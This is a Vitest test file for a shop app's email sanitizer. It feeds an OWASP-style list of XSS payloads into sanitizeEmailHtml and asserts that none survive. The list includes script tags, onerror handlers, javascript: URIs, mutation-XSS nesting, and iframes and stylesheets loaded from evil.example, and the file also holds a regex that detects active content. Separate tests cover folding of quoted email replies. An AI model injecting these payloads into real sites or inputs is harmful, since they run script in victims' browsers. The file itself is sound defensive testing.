// Customer HTML against a set of XSS payloads (OWASP cheat sheet style): nothing active survives,
// remote images wait for a click, quoted history is folded out of the shown text.
import { describe, expect, it } from "vitest";
import prisma from "../../app/db.server";
import { foldQuotedText } from "../../app/services/email/fold-quotes";
import { BLOCKED_IMAGE_CLASS, BLOCKED_IMAGE_PLACEHOLDER, sanitizeEmailHtml } from "../../app/services/email/sanitize-html.server";
import { composeMail, emailShop, postRaw, testInboundDeps } from "./support";

const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="javascript:alert(1)">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
  `<svg onload=alert(1)><circle r=10 /></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<a href="javascript:alert(1)">click</a>`,
  `<a href="  jAvAsCrIpT:alert(1)">click</a>`,
  `<a href="java\tscript:alert(1)">tab</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="vbscript:msgbox(1)">vb</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  `<body onload=alert(1)>`,
  `<div style="background:url(javascript:alert(1))">styled</div>`,
  `<div style="width: expression(alert(1))">ie</div>`,
  `<style>@import 'https://evil.example/x.css'; body{background:url(https://tracker.example/bg)}</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<p onclick="alert(1)" onmouseover="alert(1)">hover</p>`,
  `<table background="javascript:alert(1)"><tr><td>t</td></tr></table>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<textarea><script>alert(1)</script></textarea>`,
  `<img src="//tracker.example/pixel.gif">`,
  `<img srcset="https://tracker.example/a.png 1x" src="https://tracker.example/b.png">`,
  `<a href="https://example.com" target="_self" rel="opener">link</a>`,
];

const ACTIVE = /<script|<iframe|<object|<embed|<style|<link|<meta|<base|<form|<input|<button|<svg|<math|<body|<video|<audio|<source|<textarea|<marquee|\son[a-z]+\s*=|javascript:|vbscript:|data:text\/html|expression\(|srcset|style=|srcdoc|formaction|background=/i;

describe("sanitizeEmailHtml", () => {
  it.each(PAYLOADS)("removes every active part of %s", (payload) => {
    const clean = sanitizeEmailHtml(`<div>before</div>${payload}<div>after</div>`);
    expect(clean).not.toMatch(ACTIVE);
    expect(clean).toContain("before");
    // Remote images are never fetched on display: no src pointing at the web.
    expect(clean).not.toMatch(/\ssrc="(?:https?:)?\/\//i);
  });

  it("keeps remote images behind a click: src → data-src with a placeholder", () => {
    const clean = sanitizeEmailHtml(`<img src="https://cdn.example/photo.jpg" alt="the damage" width="200" onerror="alert(1)">`);
    expect(clean).toBe(`<img alt="the damage" width="200" src="${BLOCKED_IMAGE_PLACEHOLDER}" data-src="https://cdn.example/photo.jpg" class="${BLOCKED_IMAGE_CLASS}" />`);
    expect(sanitizeEmailHtml(`<img src="//cdn.example/p.png">`)).toContain('data-src="https://cdn.example/p.png"');
  });

  it("keeps the text and the harmless formatting, and opens links outside the app", () => {
    const clean = sanitizeEmailHtml(`<p>Hello <b>there</b>, <a href="https://shop.example/orders/1">your order</a>.</p><blockquote>quoted</blockquote><table><tr><td colspan="2">cell</td></tr></table>`);
    expect(clean).toBe(`<p>Hello <b>there</b>, <a href="https://shop.example/orders/1" target="_blank" rel="noopener noreferrer nofollow">your order</a>.</p><blockquote>quoted</blockquote><table><tr><td colspan="2">cell</td></tr></table>`);
  });

  it("sanitises what an inbound email stores, whatever the sender put in it", async () => {
    const { alias } = await emailShop(prisma);
    const deps = testInboundDeps(prisma);
    const response = await postRaw(deps, await composeMail({ from: "x@example.com", to: alias, subject: "XSS", text: "plain", html: PAYLOADS.join("\n"), messageId: "<xss@example.com>" }));
    expect(response.status).toBe(200);
    const message = await prisma.message.findUniqueOrThrow({ where: { id: response.body.messageId as string } });
    expect(message.bodyHtml).not.toMatch(ACTIVE);
    expect(message.bodyHtml).not.toMatch(/\ssrc="(?:https?:)?\/\//i);
  });
});

describe("foldQuotedText", () => {
  it.each([
    ["Gmail (English)", "Yes, size M please.\n\nOn Mon, Nov 23, 2026 at 9:00 AM Shop <s@shop.com> wrote:\n> Which size?\n> Thanks"],
    ["Gmail wrapped header", "Yes, size M please.\n\nOn Mon, Nov 23, 2026 at 9:00 AM Shop Support <\nsupport@shop.com> wrote:\n> Which size?"],
    ["Outlook", "Yes, size M please.\n\n________________________________\nFrom: Shop <s@shop.com>\nSent: Monday\nSubject: Re: size"],
    ["Apple Mail French", "Yes, size M please.\n\nLe 23 nov. 2026 à 09:00, Shop <s@shop.com> a écrit :\n\n> Which size?"],
    ["Chinese client", "Yes, size M please.\n\n在 2026年11月23日 09:00，Shop <s@shop.com> 写道：\n> Which size?"],
    ["Japanese client", "Yes, size M please.\n\n2026年11月23日(月) 9:00 Shop <s@shop.com>さんは書きました:\n> Which size?"],
    ["signature", "Yes, size M please.\n\n-- \nLéa Martin\n+33 6 00 00 00 00"],
    ["mobile signature", "Yes, size M please.\n\nSent from my iPhone"],
    ["forward separator", "Yes, size M please.\n\n-----Original Message-----\nFrom: Shop"],
  ])("folds %s", (_name, text) => {
    expect(foldQuotedText(text)).toEqual({ shown: "Yes, size M please.", folded: true });
  });

  it("shows everything when nothing precedes the quote, and leaves plain text alone", () => {
    expect(foldQuotedText("> only a quote\n> here")).toEqual({ shown: "> only a quote\n> here", folded: false });
    expect(foldQuotedText("Line one\nFrom: my phone I saw the tracking page")).toEqual({ shown: "Line one\nFrom: my phone I saw the tracking page", folded: false });
  });
});
